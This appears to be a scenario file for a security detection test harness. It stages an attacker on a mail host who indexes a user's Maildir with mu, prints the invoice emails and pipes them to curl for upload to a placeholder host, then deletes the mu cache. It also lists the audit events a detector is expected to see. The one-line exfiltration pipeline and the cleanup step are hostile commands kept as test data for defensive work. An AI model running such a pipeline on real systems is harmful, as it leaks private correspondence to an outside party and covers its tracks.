# The other indexer: it says where the messages are and prints them.
title="Messages found and printed by mu, uploaded by curl"
what="Somebody with dev's login indexes the Maildir with mu, lets mu find name the messages about invoices, mu view print each of them, and curl upload what they print to 203.0.113.80. No file is written but the index."
host=mx1.example.org user=dev daemons="cron sshd" audit_format=RAW

act() {
  for n in 1 2 3 4 5; do mail_in --from "customer$n@example.net" --to dev@example.org --subject "Invoice $n"; done
  wait_mail dev 5
  ssh_as dev <<'L'
mu init --quiet --maildir=/home/dev/Maildir
mu index --quiet
%sleep 2
mu find --fields=l subject:invoice | xargs -d '\n' mu view | curl -s -T - http://files.example.net/up/m
%sleep 2
rm -rf .cache/mu
L
  small_talk 2
}
truth() {
  exec_step index 'mu index' 'the mailbox is indexed'
  exec_step view 'mu view /home/dev/Maildir' 'messages are printed'
  file_step read 'mu open(at)?:read NORMAL .*Maildir/(new|cur)/' 'they are read'
  net_step upload 'curl 203.0.113.80:80' 'and uploaded'
}
